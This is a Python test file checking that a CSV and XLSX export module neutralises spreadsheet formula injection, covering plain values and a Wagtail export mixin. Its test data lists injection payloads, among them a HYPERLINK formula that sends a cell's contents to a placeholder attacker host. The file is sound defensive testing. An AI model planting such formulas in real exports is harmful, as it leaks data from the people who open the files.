"""tabular.writing: the one CSV and XLSX writer never hands out a live formula."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tabular.writing import csv_bytes, csv_response, csv_safe, xlsx_bytes, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_that_a_spreadsheet_would_run_is_text(text):
    data = csv_bytes([[text, "王小明"]], header=["name", "姓名"])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "姓名"]
    assert rows[1] == ["'" + text, "王小明"]


def test_csv_keeps_plain_text_numbers_and_dates():
    data = csv_bytes([["王小明", -5, 2.5, date(2024, 3, 1), None, True, "a=b"]])
    assert data.decode("utf-8-sig") == "王小明,-5,2.5,2024-03-01,,yes,a=b\r\n"
    assert csv_safe("1-2") == "1-2"


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_cell_is_a_string_never_a_formula(text):
    data = xlsx_bytes([[text, 7, date(2024, 3, 1)]], header=["name", "n", "day"])
    sheet = load_workbook(io.BytesIO(data)).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value.lstrip() == text.lstrip()  # XML keeps a carriage return as a line feed
    assert sheet["B2"].value == 7 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value.date() == date(2024, 3, 1)


def test_responses_are_downloads():
    response = csv_response([["=1"]], file_name="roster.csv", header=["name"])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="roster.csv"'
    assert b"'=1" in response.content
    response = xlsx_response([["=1"]], file_name="roster.xlsx")
    assert load_workbook(io.BytesIO(response.content)).active["A1"].data_type == "s"


def test_wagtail_listing_exports_go_through_the_writer():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from tabular.writing import SafeSpreadsheetExportMixin

    class Export(SafeSpreadsheetExportMixin, SpreadsheetExportMixin):
        pass

    view = Export()
    assert view.preprocess_field_value("name", "=1+1", "csv") == "'=1+1"
    assert view.preprocess_field_value("name", "=1+1", "xlsx") == "=1+1"  # a string cell there
    assert view.preprocess_field_value("name", "王小明", "csv") == "王小明"
